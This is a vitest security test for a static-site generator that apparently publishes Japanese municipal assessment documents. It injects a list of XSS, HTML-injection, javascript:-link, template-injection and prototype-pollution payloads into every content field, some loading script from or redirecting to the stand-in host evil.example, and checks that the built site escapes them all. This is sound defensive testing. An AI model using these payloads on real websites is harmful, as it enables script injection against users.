import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { stringify } from 'yaml';
import type { Assessment, Change, Value } from '../../src/assessment/types.ts';
import { writeAssessment } from '../../src/assessment/write.ts';
import { formIds, loadForm } from '../../src/forms/load.ts';
import type { FormId } from '../../src/forms/types.ts';
import { wholeAssessment } from '../assessment/whole.ts';
import type { BuiltSite } from '../support/build-sites.ts';
import { attribute, elementsOf, type Element } from '../support/dom.ts';
import { listFiles, listPages, readPage } from '../support/pages.ts';
import { run } from '../support/run.ts';

/** Where payloads would send a reader. */
const FOREIGN = 'evil.example';
/** What a payload that came alive would call or bear, so that it is known from the site's own. */
const SIGN = 'pwned';

const PAYLOADS = [
  `<script>${SIGN}(1)</script>`,
  `</script><script src=//${FOREIGN}/x.js></script>`,
  `"><img src=x onerror=${SIGN}(1)>`,
  `' onmouseover='${SIGN}(1)' x='`,
  `" autofocus onfocus="${SIGN}(1)`,
  `<svg/onload=${SIGN}(1)>`,
  `<svg><style><img src=x onerror=${SIGN}(1)></style></svg>`,
  `<math><mtext></p><style><img src=x onerror=${SIGN}(1)>`,
  `<iframe src=//${FOREIGN}></iframe>`,
  `<object data=//${FOREIGN}/x></object>`,
  `<base href=//${FOREIGN}/>`,
  `<meta http-equiv=refresh content="0;url=//${FOREIGN}">`,
  `<link rel=stylesheet href=//${FOREIGN}/x.css>`,
  `<style>@import url(//${FOREIGN}/x.css)</style>`,
  `<form action=//${FOREIGN}><input name=q></form>`,
  `</title><script>${SIGN}(1)</script>`,
  `</textarea></template></noscript><script>${SIGN}(1)</script>`,
  `<!--><script>${SIGN}(1)</script>-->`,
  `]]><script>${SIGN}(1)</script>`,
  `[x](javascript:${SIGN}(1))`,
  `[x](JaVaScRiPt:${SIGN}(1) "y")`,
  `<javascript:${SIGN}(1)>`,
  `![x](https://${FOREIGN}/x.png)`,
  `![x](data:image/svg+xml,<svg/onload=${SIGN}(1)>)`,
  `[x]: javascript:${SIGN}(1)`,
  `\${${SIGN}(1)} {{${SIGN}(1)}} <%= ${SIGN}(1) %>`,
  `&lt;script&gt;${SIGN}(1)&lt;/script&gt;`,
  `&#60;script&#62;${SIGN}(1)&#60;/script&#62;`,
  `＜script＞${SIGN}(1)＜/script＞`,
  `\\"-${SIGN}(1)-\\"`,
  `-${SIGN}(1)//`,
] as const;

let next = 0;
const payload = (): string => PAYLOADS[next++ % PAYLOADS.length] ?? '';
const folder = mkdtempSync(join(tmpdir(), 'hyokasho-hostile-'));
const site: BuiltSite = { dir: join(folder, 'site'), base: '/' };

function put(path: string, text: string): void {
  mkdirSync(join(folder, 'content', path, '..'), { recursive: true });
  writeFileSync(join(folder, 'content', path), text);
}

function poison(value: Value | null): Value | null {
  if (value?.type === 'text') return { ...value, text: [payload(), payload(), payload()].join('\n') };
  if (value?.type === 'choice') return { ...value, value: payload().trim(), options: [] };
  if (value?.type === 'date') return { ...value, printed: payload() };
  if (value?.type === 'marks') return { ...value, marks: value.marks.map((mark) => ({ ...mark, text: payload() })) };
  return value;
}

const change = (): Change => ({
  date: '令和7年3月31日',
  item: payload(),
  before: payload(),
  after: payload(),
  timing: '事前',
  note: payload(),
  flags: [],
});

/** Every text of an assessment is hostile; of the front matter what the check lets be any words. */
function hostile(id: FormId): Assessment {
  const whole = wholeAssessment(loadForm(id));
  return {
    ...whole,
    frontmatter: {
      ...whole.frontmatter,
      municipality: '431001',
      title: payload(),
      authority: payload(),
      source: {
        file: payload(),
        url: null,
        retrieved: null,
        sha256: null,
        licence: payload(),
        kind: 'ocr',
        quality: null,
      },
    },
    entries: whole.entries.map((entry) => ({ ...entry, value: poison(entry.value) })),
    changes: PAYLOADS.map(change),
    unplaced: PAYLOADS.map((text, index) => ({ at: { lines: [index + 1, index + 1] }, text })),
  };
}

/** What the check accepts, with words that name something of every object; of the same body, but for what is hostile. */
function putOdd(): void {
  const head = (number: string, procedure: string): string =>
    `---\nform: kiso\nnumber: "${number}"\nmunicipality: "431001"\nprocedure: ${procedure}\nsource: { file: x, retrieved: null, kind: constructor }\n---\n`;
  const choice = (words: string): string =>
    `\n# Ⅱ しきい値判断項目\n\n## 1. 対象人数\n\n### 評価対象の事務の対象人数は何人か\n\n- [x] ${words}（原文のまま）\n`;
  put('assessments/431001/1.md', head('1', 'jido-teate'));
  put('assessments/431001/2.md', head('2', 'kojin-juminzei') + choice('constructor'));
  put('assessments/431001/3.md', head('3', 'kojin-juminzei') + choice('__proto__'));
  put('assessments/431001/constructor.md', head('4', 'constructor') + choice('toString'));
  put(
    'pages/annai.md',
    '---\ntitle: 案内\ndescription: 見本です。\n---\n\n[ここ](#場所)と[次][a]と文[^1]。\n\n## 場所\n\n[a]: ../search/\n[^1]: 注です。\n',
  );
}

beforeAll(async () => {
  for (const id of formIds) put(`assessments/431001/${id}.md`, writeAssessment(hostile(id)));
  putOdd();
  put(
    'procedures.yaml',
    stringify([
      { id: 'jido-teate', name: payload(), about: payload(), aliases: [payload()] },
      { id: 'kojin-juminzei', name: '個人住民税' },
      { id: 'constructor', name: '見本' },
    ]),
  );
  put('contractors.yaml', stringify([{ id: 'x', name: payload(), spellings: [payload()], note: payload() }]));
  put('glossary/x.yaml', stringify({ term: payload(), reading: 'あ', short: payload(), more: payload() }));
  put('pages/x.md', `---\n${stringify({ title: payload(), description: payload() })}---\n\n${PAYLOADS.join('\n\n')}\n`);
  put('site.config.yaml', stringify({ name: payload() }));
  const { code, stdout, stderr } = await run('build', ['--content', join(folder, 'content'), '--out', site.dir]);
  expect(code, stdout + stderr).toBe(0);
});
afterAll(() => rmSync(folder, { recursive: true, force: true }));

/** Attributes whose address a browser fetches or opens by itself or by a press. */
const ADDRESSES = new Set(['href', 'src', 'srcset', 'action', 'formaction', 'data', 'poster', 'xlink:href', 'ping']);
const NEVER = new Set(['iframe', 'object', 'embed', 'base', 'frame', 'applet', 'portal']);

/** What is wrong with an element; null where nothing is. */
function faultOf(element: Element): string | null {
  const { tagName, attrs } = element;
  if (NEVER.has(tagName)) return `<${tagName}>`;
  if (tagName === 'meta' && attribute(element, 'http-equiv') === 'refresh') return '<meta refresh>';
  if (tagName === 'script' && attribute(element, 'src') === null && !isData(element)) return '<script> with words';
  for (const { name, value } of attrs) {
    if (/^on/iu.test(name) || name === 'srcdoc' || name === 'style') return `<${tagName} ${name}>`;
    if (!ADDRESSES.has(name)) continue;
    const scheme = /^[\s\p{Cc}]*([a-z][a-z\d+.-]*):/iu.exec(value)?.[1]?.toLowerCase();
    if (scheme !== undefined && !['http', 'https', 'mailto', 'tel'].includes(scheme))
      return `<${tagName} ${name}=${value}>`;
    if (new RegExp(`^(?:https?:)?[\\\\/]{2}${FOREIGN}`, 'iu').test(value)) return `<${tagName} ${name}=${value}>`;
  }
  return null;
}

const isData = (element: Element): boolean =>
  ['application/ld+json', 'application/json', 'importmap'].includes(attribute(element, 'type') ?? '');

test('no page carries a tag, a handler or an address that its content has written', () => {
  const pages = listPages(site);
  expect(pages.length).toBeGreaterThan(10);
  const faults = pages.flatMap((page) =>
    elementsOf(readPage(page)).flatMap((element) => {
      const fault = faultOf(element);
      return fault === null ? [] : [`${page.path} ${fault}`];
    }),
  );
  expect([...new Set(faults)].slice(0, 20)).toEqual([]);
});

test('payloads that nothing escapes are seen by that', () => {
  const alive = PAYLOADS.filter((text) =>
    elementsOf(`<!doctype html><title>x</title><p title="${text}">${text}</p>`).some((one) => faultOf(one) !== null),
  );
  expect(alive.length).toBeGreaterThan(12);
});

test('their words stand on the pages as words', () => {
  const html = listPages(site).map(readPage).join('');
  // Three forms, with texts, choices and boxes in each.
  expect(html.split(SIGN).length).toBeGreaterThan(1_000);
});

test('feeds and the sitemap stay well formed, and their texts are plain', () => {
  const files = listFiles(site).filter((file) => file.endsWith('.xml'));
  expect(files.length).toBeGreaterThan(3);
  for (const file of files) {
    const parser = new SaxesParser();
    const names = new Set<string>();
    parser.on('opentag', ({ name }) => names.add(name));
    parser.on('error', (error) => {
      throw new Error(`${file}: ${error.message}`);
    });
    parser.write(readFileSync(join(site.dir, file), 'utf8')).close();
    expect([...names].filter((name) => ['script', 'img', 'svg', 'iframe', 'style'].includes(name))).toEqual([]);
  }
});

test('what the check accepts is built to the end, whatever words stand in it', () => {
  for (const id of ['431001-1', '431001-2', '431001-3', '431001-constructor'])
    // /compare/ asks for the versions of each, also of one without a history.
    for (const path of [`assessments/${id}/index.html`, `api/v1/versions/${id}.json`])
      expect(existsSync(join(site.dir, path)), path).toBe(true);
  const page = readFileSync(join(site.dir, 'annai/index.html'), 'utf8');
  for (const words of ['id="場所"', 'href="/search/"', '注です。']) expect(page).toContain(words);
});

test('no stylesheet or script of the site names what content has written', () => {
  for (const file of listFiles(site).filter((path) => /\.(?:js|css)$/u.test(path)))
    expect(readFileSync(join(site.dir, file), 'utf8').includes(FOREIGN), file).toBe(false);
});
